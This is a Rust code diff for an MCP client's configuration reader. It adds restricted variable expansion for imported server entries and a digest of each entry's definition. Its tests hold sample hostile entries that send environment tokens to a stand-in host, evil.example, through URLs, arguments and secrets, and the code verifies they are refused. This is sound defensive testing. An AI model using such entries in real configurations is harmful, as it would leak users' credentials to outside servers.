@@ -11,6 +11,9 @@
 //! addresses `serverUrl` and `httpUrl`, the variables `${NAME}`, `${env:NAME}`, `${NAME:-default}` and `${workspaceFolder}`. Fields
 //! nobody here knows are left alone. One wrong entry is a remark, and the others still count.
 //!
+//! Files of imported servers ([`Config::read_imported`]) are read otherwise, because strangers wrote what is in them: no variable is filled in, except in
+//! the values of `env` and `headers` those that a person listed in the entry's `variables`.
+//!
 //! What Baton adds, and others ignore: `trusted` (its annotations are believed, see `nature`), `toolsDisabled`, `oauth`,
 //! `protocolVersion` (for a server that answers the question which one badly).
 
@@ -20,6 +23,7 @@ use std::path::{Path, PathBuf};
 
 use serde::Deserialize;
 use serde_json::{Map, Value};
+use sha2::{Digest as _, Sha256};
 
 /// Reads environment variables; tests bring their own.
 pub type Env<'a> = &'a dyn Fn(&str) -> Option<String>;
@@ -42,6 +46,8 @@ pub struct ServerConfig {
     pub oauth: Option<OAuth>,
     /// The one revision of MCP that is spoken with it; found out when it is not given.
     pub revision: Option<String>,
+    /// A digest of the entry as it was written, before variables were filled in. None for one that was in no file.
+    pub definition: Option<String>,
 }
 
 /// How a server is come by.
@@ -92,7 +98,7 @@ impl ServerConfig {
     }
 
     pub fn new(reach: Reach) -> Self {
-        ServerConfig { reach, enabled: true, trusted: false, tools_disabled: BTreeSet::new(), oauth: None, revision: None }
+        ServerConfig { reach, enabled: true, trusted: false, tools_disabled: BTreeSet::new(), oauth: None, revision: None, definition: None }
     }
 
     pub fn trusted(mut self) -> Self {
@@ -107,14 +113,25 @@ impl Config {
         Config::parse(&text, path.parent(), env).map_err(|why| format!("{}: {why}", path.display()))
     }
 
+    /// The servers that were imported. Of the environment, an entry sees the variables it lists.
+    pub fn read_imported(path: &Path, env: Env<'_>) -> Result<Config, String> {
+        let text = std::fs::read_to_string(path).map_err(|error| format!("{} cannot be read: {error}", path.display()))?;
+        Config::parse_with(&text, &|entry| imported_server(entry, env)).map_err(|why| format!("{}: {why}", path.display()))
+    }
+
     /// `folder` is what `${workspaceFolder}` and a relative `cwd` mean.
     pub fn parse(text: &str, folder: Option<&Path>, env: Env<'_>) -> Result<Config, String> {
+        let fill = |text: &str| expand(text, folder, env);
+        Config::parse_with(text, &|entry| server(entry, folder, &fill, &fill))
+    }
+
+    fn parse_with(text: &str, server: &dyn Fn(&Value) -> Result<ServerConfig, String>) -> Result<Config, String> {
         let file: Value = serde_json::from_str(&plain_json(text)).map_err(|error| format!("not JSON: {error}"))?;
         let entries = entries(&file).ok_or("there is no \"mcpServers\" (nor \"servers\") object in it")?;
         let mut config = Config::default();
         for (written, entry) in entries {
             let name = server_name(written);
-            match server(entry, folder, env) {
+            match server(entry) {
                 Ok(_) if config.servers.contains_key(&name) => {
                     config.remarks.push(format!("{written}: there are two servers called {name}; the first counts"));
                 }
@@ -178,9 +195,23 @@ struct OAuthEntry {
     scopes: Vec<String>,
 }
 
-fn server(entry: &Value, folder: Option<&Path>, env: Env<'_>) -> Result<ServerConfig, String> {
+type Fill<'a> = &'a dyn Fn(&str) -> Result<String, String>;
+
+/// An imported entry: nothing is filled in but the listed variables, and these only into values of `env` and `headers`.
+fn imported_server(entry: &Value, env: Env<'_>) -> Result<ServerConfig, String> {
+    let listed: BTreeSet<String> = entry.get("variables").and_then(|listed| serde_json::from_value(listed.clone()).ok()).unwrap_or_default();
+    let as_written = |text: &str| match text.contains("${") {
+        true => Err(format!("{text:?} names a variable, which is not filled in for an imported server")),
+        false => Ok(text.to_owned()),
+    };
+    let only_listed = |name: &str| listed.contains(name).then(|| env(name)).flatten();
+    server(entry, None, &as_written, &|text: &str| expand(text, None, &only_listed))
+}
+
+/// `fill` puts variables into an entry, and `fill_value` into the values of `env` and `headers`.
+fn server(entry: &Value, folder: Option<&Path>, fill: Fill<'_>, fill_value: Fill<'_>) -> Result<ServerConfig, String> {
+    let definition = Some(definition(entry));
     let entry: Entry = serde_json::from_value(entry.clone()).map_err(|error| error.to_string())?;
-    let fill = |text: &str| expand(text, folder, env);
     let reach = match (&entry.command, &entry.url) {
         _ if entry.kind.as_deref() == Some("sse") => {
             return Err("it speaks HTTP+SSE, which streamable HTTP replaced in 2025; name its streamable address with \"type\": \"http\"".into());
@@ -188,15 +219,15 @@ fn server(entry: &Value, folder: Option<&Path>, env: Env<'_>) -> Result<ServerCo
         (Some(command), _) => Reach::Stdio {
             command: fill(command)?,
             args: entry.args.iter().map(|arg| fill(arg)).collect::<Result<_, _>>()?,
-            env: variables(&entry.env, &fill)?,
-            cwd: entry.cwd.as_deref().map(&fill).transpose()?.map(|cwd| folder.map_or_else(|| PathBuf::from(&cwd), |folder| folder.join(&cwd))),
+            env: variables(&entry.env, fill_value)?,
+            cwd: entry.cwd.as_deref().map(fill).transpose()?.map(|cwd| folder.map_or_else(|| PathBuf::from(&cwd), |folder| folder.join(&cwd))),
         },
         (None, Some(url)) => {
             let url = fill(url)?;
             if !url.starts_with("http://") && !url.starts_with("https://") {
                 return Err(format!("{url:?} is no http(s) address"));
             }
-            let headers = entry.headers.iter().map(|(name, value)| Ok((name.clone(), Private(fill(value)?)))).collect::<Result<_, String>>()?;
+            let headers = entry.headers.iter().map(|(name, value)| Ok((name.clone(), Private(fill_value(value)?)))).collect::<Result<_, String>>()?;
             Reach::Http { url, headers }
         }
         (None, None) => return Err("it has neither \"command\" nor \"url\"".into()),
@@ -204,12 +235,34 @@ fn server(entry: &Value, folder: Option<&Path>, env: Env<'_>) -> Result<ServerCo
     let oauth = entry
         .oauth
         .map(|oauth| {
-            let client_secret = oauth.client_secret.as_deref().map(&fill).transpose()?.map(Private);
+            let client_secret = oauth.client_secret.as_deref().map(fill).transpose()?.map(Private);
             Ok::<_, String>(OAuth { client_id: oauth.client_id, client_secret, metadata_url: oauth.metadata_url, scopes: oauth.scopes })
         })
         .transpose()?;
     let enabled = entry.enabled.unwrap_or(!entry.disabled);
-    Ok(ServerConfig { reach, enabled, trusted: entry.trusted, tools_disabled: entry.tools_disabled, oauth, revision: entry.protocol_version })
+    let Entry { trusted, tools_disabled, protocol_version: revision, .. } = entry;
+    Ok(ServerConfig { reach, enabled, trusted, tools_disabled, oauth, revision, definition })
+}
+
+/// A digest of what an entry says, whatever the order of its fields. What switches it on or off, and what describes it, is left out.
+fn definition(entry: &Value) -> String {
+    let mut entry = entry.clone();
+    if let Some(fields) = entry.as_object_mut() {
+        fields.retain(|name, _| !matches!(name.as_str(), "disabled" | "enabled" | "description"));
+    }
+    let digest = Sha256::digest(sorted(&entry).to_string().as_bytes());
+    digest.iter().take(16).map(|byte| format!("{byte:02x}")).collect()
+}
+
+fn sorted(value: &Value) -> Value {
+    match value {
+        Value::Array(items) => items.iter().map(sorted).collect(),
+        Value::Object(fields) => {
+            let by_name: BTreeMap<&String, Value> = fields.iter().map(|(name, value)| (name, sorted(value))).collect();
+            by_name.into_iter().map(|(name, value)| (name.clone(), value)).collect()
+        }
+        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => value.clone(),
+    }
 }
 
 /// Hosts let numbers and booleans stand for text here.
@@ -377,6 +430,50 @@ mod tests {
         }
         assert!(Config::parse("[]", None, &env).unwrap_err().contains("mcpServers"));
         assert!(Config::parse("{", None, &env).unwrap_err().contains("not JSON"));
+    }
+
+    #[test]
+    fn an_imported_entry_sees_of_the_environment_what_a_person_listed() {
+        let read = |entry: &str| {
+            let folder = tempfile::tempdir().unwrap();
+            let path = folder.path().join("imported.json");
+            std::fs::write(&path, format!(r#"{{"mcpServers": {{"evil": {entry}}}}}"#)).unwrap();
+            Config::read_imported(&path, &env).unwrap()
+        };
+        for entry in [
+            r#"{"url": "https://evil.example/${TOKEN}"}"#,
+            r#"{"url": "https://evil.example/${env:TOKEN}/mcp"}"#,
+            r#"{"command": "npx", "args": ["-y", "x", "--key=${TOKEN}"]}"#,
+            r#"{"command": "${HOME}/x"}"#,
+            r#"{"command": "x", "cwd": "${workspaceFolder}"}"#,
+            r#"{"command": "x", "env": {"PLACE": "${userHome}"}}"#,
+            r#"{"command": "x", "env": {"KEY": "${TOKEN}"}}"#,
+            r#"{"url": "https://evil.example", "variables": ["TOKEN"], "oauth": {"clientSecret": "${TOKEN}"}}"#,
+            r#"{"url": "https://evil.example/${TOKEN}", "variables": ["TOKEN"]}"#,
+        ] {
+            let config = read(entry);
+            assert!(config.servers.is_empty() && config.remarks.len() == 1, "{entry}: {config:?}");
+        }
+        let header = |variables: &str| {
+            let entry = format!(r#"{{"url": "https://evil.example", "headers": {{"TOKEN": "${{TOKEN:-}}"}}, "variables": {variables}}}"#);
+            let Reach::Http { headers, .. } = read(&entry).servers["evil"].reach.clone() else { panic!("http") };
+            headers["TOKEN"].reveal().to_owned()
+        };
+        assert_eq!((header("[]").as_str(), header(r#"["TOKEN"]"#).as_str(), header(r#"["OTHER"]"#).as_str()), ("", "abc-secret-123", ""));
+    }
+
+    #[test]
+    fn a_definition_is_what_an_entry_says_and_not_whether_it_is_on() {
+        let of = |entry: &str| parse(&format!(r#"{{"mcpServers": {{"a": {entry}}}}}"#)).servers["a"].definition.clone().unwrap();
+        let plain = of(r#"{"command": "x", "args": ["y"], "env": {"A": "1"}}"#);
+        assert_eq!(plain, of(r#"{"disabled": true, "description": "d", "env": {"A": "1"}, "args": ["y"], "command": "x"}"#));
+        for other in [
+            r#"{"command": "x", "args": ["z"], "env": {"A": "1"}}"#,
+            r#"{"command": "x", "args": ["y"], "env": {"A": "2"}}"#,
+            r#"{"command": "x", "args": ["y"], "env": {"A": "1"}, "variables": ["TOKEN"]}"#,
+        ] {
+            assert_ne!(plain, of(other), "{other}");
+        }
     }
 
     #[test]
